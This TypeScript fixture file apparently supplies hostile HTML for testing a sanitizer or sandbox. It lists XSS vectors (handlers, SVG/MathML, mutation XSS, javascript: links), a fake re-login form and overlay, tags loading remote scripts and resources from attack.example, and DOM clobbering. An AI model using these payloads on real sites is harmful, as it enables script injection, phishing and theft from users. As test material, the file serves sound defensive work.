/** HTML that tries to run, to leave or to fetch; every address that it names outside ends in attack.example. */
export const hostilePages: Readonly<Record<string, string>> = {
  script: '<script>window.top.hit=1;document.title="hit"</script><script src="https://attack.example/x.js"></script>',
  handlers:
    '<img src=x onerror="top.hit=1"><body onload="top.hit=1"><div onmouseover="top.hit=1" style="width:900px;height:900px">x</div><details open ontoggle="top.hit=1"><video><source onerror="top.hit=1"></video><input autofocus onfocus="top.hit=1">',
  'svg and math':
    '<svg onload="top.hit=1"><script>top.hit=1</script><animate onbegin="top.hit=1" attributeName=x dur=1s><image href="https://attack.example/svg.png"/><use href="https://attack.example/u.svg#x"/></svg><math><mtext><img src=x onerror="top.hit=1"></mtext><maction actiontype="statusline" xlink:href="javascript:top.hit=1">click</maction></math>',
  mutation:
    '<noscript><p title="</noscript><img src=x onerror=top.hit=1>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hit=1&gt;"></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hit=1>',
  'more mutation':
    '<svg></p><style><a id="</style><img src=1 onerror=top.hit=1>"></svg><xmp><p title="</xmp><img src=x onerror=top.hit=1>"></xmp><listing>&lt;img src=x onerror=top.hit=1&gt;</listing><template><img src=x onerror=top.hit=1></template><select><style></select><img src=x onerror=top.hit=1>',
  links:
    '<a id="l1" href="javascript:top.hit=1">one</a><a id="l2" href="java&#10;script:top.hit=1">two</a><a id="l3" href="data:text/html,<script>top.hit=1</script>">three</a><a id="l4" href="vbscript:x">four</a><a id="l5" href=" &#1;javascript:top.hit=1">five</a>',
  forms:
    '<form action="https://attack.example/f" id="f"><input name="p" value="v"><button type="submit" id="go">Sign in again</button><input type="image" src="https://attack.example/i.png"></form><button form="f" formaction="javascript:top.hit=1">b</button>',
  leaving:
    '<meta http-equiv="refresh" content="0;url=https://attack.example/m"><base href="https://attack.example/"><a href="next" target="_top">x</a><iframe src="https://attack.example/frame"></iframe><object data="https://attack.example/o"></object><embed src="https://attack.example/e"><frameset><frame src="https://attack.example/fr"></frameset><portal src="https://attack.example/p"></portal>',
  fetching:
    '<img src="https://attack.example/a.png"><img srcset="https://attack.example/b.png 1x" src="//attack.example/c.png"><div style="background:url(https://attack.example/d.png)">x</div><table background="https://attack.example/e.png"><tr><td>x</td></tr></table><link rel="stylesheet" href="https://attack.example/f.css"><link rel="preconnect" href="https://attack.example"><style>@import url(https://attack.example/g.css);@font-face{font-family:x;src:url(https://attack.example/h.woff)} *{font-family:x;background:url(https://attack.example/i.png)}</style><video poster="https://attack.example/j.png" src="https://attack.example/k.mp4"></video><audio src="https://attack.example/l.mp3" autoplay></audio><input type="image" src="https://attack.example/m.png"><picture><source srcset="https://attack.example/n.png"><img src="https://attack.example/o.png"></picture>',
  styles:
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">Session ended. Sign in again.</div><div style="width:expression(top.hit=1)">x</div><div style="behavior:url(https://attack.example/x.htc);-moz-binding:url(https://attack.example/x.xml)">x</div><div style="background-image:\\75rl(https://attack.example/esc.png)">x</div><p style="content:url(https://attack.example/ct.png);list-style-image:url(https://attack.example/ls.png);cursor:url(https://attack.example/cu.png),auto;filter:url(https://attack.example/fi.svg#x)">x</p>',
  clobbering:
    '<form name="getElementById"><input name="body"></form><img name="cookie"><a id="location" href="https://attack.example/l">x</a><form id="document"></form>',
};
